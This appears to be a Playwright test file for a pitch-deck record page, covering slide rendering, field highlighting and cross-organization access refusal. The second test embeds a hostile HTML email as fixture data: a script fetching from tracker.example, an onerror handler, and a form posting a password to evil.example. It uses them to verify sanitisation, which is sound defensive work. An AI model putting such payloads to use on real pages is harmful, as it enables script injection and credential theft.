import { expect, test } from '../support/fixtures.js';
import {
  createDeckPdf,
  createRawEmail,
  findInbox,
  postRawMail,
  startTrialOrganization,
} from '../support/records.js';

// Issue 23 item 1: a member opens a record's page, sees the deck's slides (pdf.js in the browser), clicks an
// extracted field and lands on its slide with the snippet marked; another organization gets 404 for the deck.

test("a member opens a record, sees the deck's slides, clicks a field and lands on its slide; another organization gets 404", async ({
  page,
  browser,
  baseURL,
}) => {
  test.setTimeout(240_000);
  await startTrialOrganization(page, 'Rho Ventures', 'Rhea Records');
  const inbox = await findInbox(page.request);
  const slides = [
    ['Kestrel Robotics', 'Warehouse robots that pick anything'],
    ['Traction', 'ARR: $1.2M', 'Customers: 30'],
    ['Team', 'Ex-Boston Dynamics engineers'],
    ['The Ask', 'Raising a $4M Seed round', 'Website: www.kestrelrobotics.io'],
    // A 20-slide deck, the size of the target (first slide < 1 s after the page's data).
    ...Array.from({ length: 16 }, (_, i) => [`Appendix ${i + 1}`, 'Unit economics by warehouse']),
  ];
  const pdf = await createDeckPdf(slides);
  const emailId = await postRawMail(
    page.request,
    inbox,
    createRawEmail({
      from: 'Kai Founder <kai@kestrelrobotics.io>',
      to: inbox.inboundAddress,
      subject: 'Kestrel Robotics deck',
      pdf,
      filename: 'kestrel.pdf',
    }),
  );

  await page.goto('/processed-emails');
  const row = page.getByRole('row').filter({ hasText: 'kai@kestrelrobotics.io' });
  await expect(row.getByText('Completed', { exact: true })).toBeVisible({ timeout: 90_000 });
  await row.getByRole('button', { name: 'View extracted data' }).click();
  const extracted = page.getByRole('dialog', { name: 'Extracted Data' });

  // The page's data, then the first slide drawn: the figure of the target (< 1 s).
  const messageArrived = page.waitForResponse((r) => r.url().includes(`/api/emails/${emailId}/message`));
  await extracted.getByRole('link', { name: 'Open the record page' }).click();
  await expect(page).toHaveURL(new RegExp(`/records/${emailId}$`));
  await messageArrived;
  const dataAt = Date.now();
  const slide = page.getByRole('group', { name: 'Slide 1' });
  await expect(slide.locator('.deck-highlight, span').first()).toBeAttached({ timeout: 15_000 });
  console.log(
    `[record-page] first slide with its text layer ${Date.now() - dataAt} ms after the data arrived`,
  );

  // The slides' thumbnails and the count.
  const thumbs = page.getByRole('navigation', { name: 'Slides' });
  await expect(thumbs.getByRole('button')).toHaveCount(20);
  await expect(page.getByText('Slide 1 of 20')).toBeVisible();

  // The amount came from slide 4: a click opens it and marks the snippet in its text layer.
  await page.getByRole('button', { name: /^Amount: / }).click();
  await expect(page.getByText('Slide 4 of 20')).toBeVisible();
  await expect(thumbs.getByRole('button', { name: 'Slide 4' })).toHaveAttribute('aria-current', 'page');
  const fourth = page.getByRole('group', { name: 'Slide 4' });
  await expect(fourth.locator('.deck-highlight').first()).toBeAttached({ timeout: 15_000 });
  await expect(fourth.locator('.deck-highlight').first()).toContainText('$4M');

  // The page jump.
  await page.getByLabel('Go to slide').fill('2');
  await page.getByRole('button', { name: 'Go', exact: true }).click();
  await expect(page.getByText('Slide 2 of 20')).toBeVisible();

  // The original deck downloads with its name.
  const download = page.waitForEvent('download');
  await page.getByRole('link', { name: 'Download kestrel.pdf' }).click();
  expect((await download).suggestedFilename()).toBe('kestrel.pdf');

  // The viewer's signed URL, and the deck's URL, from another organization: refused, never the bytes.
  const message = (await (await page.request.get(`/api/emails/${emailId}/message`)).json()) as {
    deck: { viewerUrl: string };
  };
  const other = await browser.newContext({ baseURL });
  const otherPage = await other.newPage();
  await startTrialOrganization(otherPage, 'Sigma Partners', 'Sid Other');
  const deck = await otherPage.request.get(`/api/emails/${emailId}/deck`);
  expect(deck.status()).toBe(404);
  expect(((await deck.json()) as { message: string }).message).toBeTruthy();
  expect((await otherPage.request.get(message.deck.viewerUrl)).status()).toBe(403);
  await otherPage.goto(`/records/${emailId}`);
  await expect(otherPage.getByText('Record not found')).toBeVisible();
  await other.close();
});

test("the founder's HTML email shows inert on the record page: no script runs, no remote image or form reaches the network", async ({
  page,
}) => {
  test.setTimeout(180_000);
  await startTrialOrganization(page, 'Tau Capital', 'Tara Records');
  const inbox = await findInbox(page.request);
  const pdf = await createDeckPdf([
    ['Osprey Labs', 'Drone inspections'],
    ['The Ask', 'Raising a $2M Seed round'],
  ]);
  const html = [
    '<p>Hello investors, meet Osprey Labs.</p>',
    '<script>document.title = "pwned"; fetch("https://tracker.example/script")</script>',
    '<img src="https://tracker.example/pixel.gif" alt="pixel" onerror="document.title=\'pwned\'">',
    '<form action="https://evil.example/steal" method="post"><input name="password"><button>Send</button></form>',
  ].join('');
  const raw = createRawEmail({
    from: 'Oli Founder <oli@ospreylabs.io>',
    to: inbox.inboundAddress,
    subject: 'Osprey Labs deck',
    text: html,
    pdf,
  }).replace('Content-Type: text/plain; charset=utf-8', 'Content-Type: text/html; charset=utf-8');
  const emailId = await postRawMail(page.request, inbox, raw);
  await expect
    .poll(
      async () =>
        ((await (await page.request.get(`/api/emails/${emailId}`)).json()) as { status: string }).status,
      {
        timeout: 90_000,
      },
    )
    .toBe('completed');

  const outside: string[] = [];
  page.on('request', (r) => {
    if (/tracker\.example|evil\.example/.test(r.url())) outside.push(r.url());
  });
  await page.goto(`/records/${emailId}`);
  await page.getByRole('tab', { name: 'HTML' }).click();
  const frame = page.frameLocator('iframe[title="The email as HTML"]');
  await expect(frame.getByText('Hello investors, meet Osprey Labs.')).toBeVisible();
  await expect(frame.locator('script, form, input, button, img[src^="http"]')).toHaveCount(0);
  await expect(page.locator('iframe[title="The email as HTML"]')).toHaveAttribute('sandbox', '');
  await page.waitForTimeout(500);
  expect(await page.title()).not.toContain('pwned');
  expect(outside).toEqual([]);
});
